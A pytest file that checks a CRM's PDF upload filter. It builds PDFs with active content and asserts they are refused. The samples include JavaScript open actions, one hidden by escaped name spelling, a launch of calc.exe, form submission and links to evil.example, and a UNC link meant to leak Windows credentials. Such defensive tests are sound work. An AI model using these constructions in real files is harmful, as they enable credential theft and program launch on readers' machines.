"""A PDF with active content is refused with a message; others are accepted."""

import io
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest
from flask import Flask
from flask_babel import force_locale
from pikepdf import AttachedFileSpec, Dictionary, Encryption, Name, ObjectStreamMode, Pdf, String

from crm.core.errors import DomainError
from crm.core.files import checking
from crm.core.files.checking import ATTACHMENT, PDF, Accepted, Checked, check

Make = Callable[[Pdf], Any]


def script() -> Dictionary:
    """An object belongs to one document, so each gets its own."""
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def saved(make: Make, **how: Any) -> bytes:
    """A PDF of one page that `make` changed."""
    with Pdf.new() as document:
        document.add_blank_page(page_size=(210, 297))
        make(document)
        buffer = io.BytesIO()
        document.save(buffer, **how)
    return buffer.getvalue()


def at_opening(document: Pdf) -> None:
    document.Root.OpenAction = script()


def of_the_names(document: Pdf) -> None:
    names = Dictionary(Names=[String("a"), document.make_indirect(script())])
    document.Root.Names = Dictionary(JavaScript=names)


def of_a_page(document: Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=script())


def after_another_action(document: Pdf) -> None:
    first = Dictionary(S=Name.GoTo, D=[document.pages[0].obj, Name.Fit], Next=[script()])
    document.Root.OpenAction = first


def launch(document: Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
        A=Dictionary(S=Name.Launch, F=String("calc.exe")),
    )  # fmt: skip
    document.pages[0].obj.Annots = [document.make_indirect(link)]


def attachment(document: Pdf) -> None:
    document.attachments["a.exe"] = AttachedFileSpec(document, b"MZ")


def attachment_of_a_page(document: Pdf) -> None:
    file = document.make_stream(b"MZ")
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9],
        FS=Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=file)),
    )  # fmt: skip
    document.pages[0].obj.Annots = [note]


def film(document: Pdf) -> None:
    movie = Dictionary(F=String("film.avi"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Movie, Rect=[0, 0, 9, 9], Movie=movie)
    document.pages[0].obj.Annots = [note]


def player(document: Pdf) -> None:
    note = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9],
        RichMediaContent=Dictionary(Configurations=[]),
    )  # fmt: skip
    document.pages[0].obj.Annots = [document.make_indirect(note)]


def xfa(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=[])


def submit(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("http://evil.example/"))


def address(document: Pdf) -> Dictionary:
    return Dictionary(S=Name.URI, URI=String("https://evil.example/"))


def address_at_opening(document: Pdf) -> None:
    document.Root.OpenAction = address(document)


def address_after_a_page(document: Pdf) -> None:
    first = Dictionary(S=Name.GoTo, D=[document.pages[0].obj, Name.Fit], Next=address(document))
    document.Root.OpenAction = first


def address_of_a_page(document: Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=address(document))


def file_under_the_pointer(document: Pdf) -> None:
    """Windows sends the reader's name and a hash of their password to such a server."""
    elsewhere = Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\share\\a.pdf"))
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], AA=Dictionary(E=elsewhere)
    )
    document.pages[0].obj.Annots = [document.make_indirect(link)]


def hidden_by_spelling(content: bytes) -> bytes:
    """Names may spell any letter by its number (ISO 32000-2, 7.3.5)."""
    return content.replace(b"/JavaScript", b"/JavaS#63ript").replace(b"/JS", b"/J#53")


ACTIVE: dict[str, tuple[Any, str]] = {
    "a script at opening": (saved(at_opening), "script"),
    "a script of the names": (saved(of_the_names), "script"),
    "a script of a page": (saved(of_a_page), "script"),
    "a script after another action": (saved(after_another_action), "script"),
    "a script in an object stream": (
        saved(of_the_names, object_stream_mode=ObjectStreamMode.generate), "script",
    ),
    "a script in a locked file": (
        saved(at_opening, encryption=Encryption(owner="x", user="", R=6)), "script",
    ),
    "a script spelt otherwise": (hidden_by_spelling(saved(at_opening)), "script"),
    "a program": (saved(launch), "launch"),
    "data sent": (saved(submit), "launch"),
    "a file": (saved(attachment), "files"),
    "a file of a page": (saved(attachment_of_a_page), "files"),
    "a film": (saved(film), "files"),
    "a player": (saved(player), "files"),
    "a form": (saved(xfa), "form"),
    "an address at opening": (saved(address_at_opening), "opens"),
    "an address after a page": (saved(address_after_a_page), "opens"),
    "an address of a page": (saved(address_of_a_page), "opens"),
    "a file under the pointer": (saved(file_under_the_pointer), "opens"),
}  # fmt: skip


def look(content: bytes, accepted: Accepted = PDF) -> Checked:
    found = check(SimpleNamespace(filename="Tarif.pdf", stream=io.BytesIO(content)), accepted)
    found.content.close()
    return found


@pytest.mark.parametrize("name", ACTIVE)
def test_an_active_pdf_is_refused_in_words(name: str, app: Flask) -> None:
    content, kind = ACTIVE[name]
    with app.test_request_context(), pytest.raises(DomainError) as refused:
        look(content)
    assert refused.value.fields["file"] == f"{checking.ACTIVE[kind]} {checking._PLAIN}"


def to_a_page(document: Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=[document.pages[0].obj, Name.Fit])


def to_an_address(document: Pdf) -> None:
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
        A=Dictionary(S=Name.URI, URI=String("https://acme.example/")),
    )  # fmt: skip
    document.pages[0].obj.Annots = [link]


def to_the_page_that_it_comes_from(document: Pdf) -> None:
    """A loop, and a page whose link leads to an address."""
    to_an_address(document)
    again = document.make_indirect(Dictionary(S=Name.GoTo, D=[document.pages[0].obj, Name.Fit]))
    again.Next = [again]
    document.Root.OpenAction = again


def with_a_plain_form(document: Pdf) -> None:
    box = Dictionary(FT=Name.Tx, T=String("name"), V=String("/JS"), Rect=[0, 0, 9, 9])
    document.Root.AcroForm = Dictionary(Fields=[document.make_indirect(box)])


@pytest.mark.parametrize(
    "make", [to_a_page, to_an_address, to_the_page_that_it_comes_from, with_a_plain_form]
)
def test_a_harmless_pdf_is_taken(make: Make, app: Flask) -> None:
    with app.app_context():
        assert look(saved(make)).pages == 1


def test_an_attachment_may_carry_files_but_no_script(app: Flask) -> None:
    """An electronic invoice (Factur-X) is a PDF with an XML file in it."""
    with app.app_context():
        assert not look(saved(attachment), ATTACHMENT).is_safe
        with pytest.raises(DomainError, match="contains a script"):
            look(saved(at_opening), ATTACHMENT)


def test_an_active_pdf_is_refused_in_french(app: Flask) -> None:
    with app.test_request_context(), force_locale("fr"), pytest.raises(DomainError) as refused:
        look(saved(at_opening))
    assert refused.value.fields["file"].startswith("Ce PDF contient un script.")


def test_what_pikepdf_cannot_read_is_no_pdf(app: Flask) -> None:
    with app.app_context(), pytest.raises(DomainError, match="not a valid PDF"):
        look(b"%PDF-1.7\n" + b"[" * 100_000)
